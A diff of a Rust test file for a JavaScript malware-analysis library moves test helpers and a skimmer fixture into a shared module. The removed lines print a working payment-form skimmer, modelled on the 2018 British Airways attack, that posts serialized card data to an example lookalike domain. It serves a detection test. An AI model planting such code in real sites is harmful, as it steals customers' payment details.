@@ -2,21 +2,10 @@
 //! runs first) and variants made with real tools: terser (mangle only), js-beautify, and an
 //! acorn-based literal rewriter.
 
-use std::path::{Path, PathBuf};
-
 use rampart_js::{Analysis, Options, Verdict, analyze, diff};
 
-fn corpus() -> PathBuf {
-    let dir = std::env::var_os("RAMPART_JS_TESTDATA")
-        .map(PathBuf::from)
-        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/js-testdata"));
-    assert!(
-        dir.join(".complete").exists(),
-        "the real-code corpus is missing at {}: run scripts/js-testdata (scripts/test does)",
-        dir.display()
-    );
-    dir
-}
+mod common;
+use common::{SKIMMER, corpus, data_dir};
 
 fn load(rel: &str) -> (String, Analysis) {
     let path = corpus().join(rel);
@@ -99,32 +88,6 @@ fn unrelated_libraries_are_dissimilar() {
     }
 }
 
-/// Modeled on the published description of the 2018 British Airways skimmer: 22 lines appended
-/// to a trusted library that serialize the payment form on click and post it to a lookalike
-/// domain. Written for this test; it names a reserved example domain.
-const SKIMMER: &str = r##"
-window.onload = function () {
-  jQuery("#submitButton").bind("mouseup touchend", function (a) {
-    var n = {};
-    jQuery("#paymentForm").serializeArray().map(function (a) {
-      n[a.name] = a.value;
-    });
-    var e = document.getElementById("personPaying").innerHTML;
-    n.person = e;
-    var t = JSON.stringify(n);
-    setTimeout(function () {
-      jQuery.ajax({
-        type: "POST",
-        async: true,
-        url: "https://baways-payments.example.com/gateway/app/dataprocessing/api/",
-        data: t,
-        dataType: "application/json"
-      });
-    }, 500);
-  });
-};
-"##;
-
 #[test]
 fn an_appended_skimmer_is_changed_located_and_explained() {
     let (src, old) = load("files/jquery_3.7.1/dist_jquery.js");
@@ -150,26 +113,6 @@ fn an_appended_skimmer_is_changed_located_and_explained() {
     let region = &d.added_regions[0].region;
     assert!(infected[region.start as usize..region.end as usize].starts_with("window.onload"));
     assert!(d.removed_regions.is_empty());
-}
-
-/// The malware corpus lives outside the repository (`RAMPART_DATA_DIR`, set by `.ci/run`).
-fn data_dir() -> Option<PathBuf> {
-    let dir = std::env::var_os("RAMPART_DATA_DIR")
-        .map(PathBuf::from)
-        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"));
-    if dir.join("js/manifest.csv").exists() {
-        return Some(dir);
-    }
-    assert!(
-        std::env::var_os("RAMPART_REQUIRE_DATA").is_none(),
-        "RAMPART_REQUIRE_DATA is set but {} has no js/manifest.csv",
-        dir.display()
-    );
-    eprintln!(
-        "no malware corpus at {}: the Magecart append test needs RAMPART_DATA_DIR",
-        dir.display()
-    );
-    None
 }
 
 #[test]
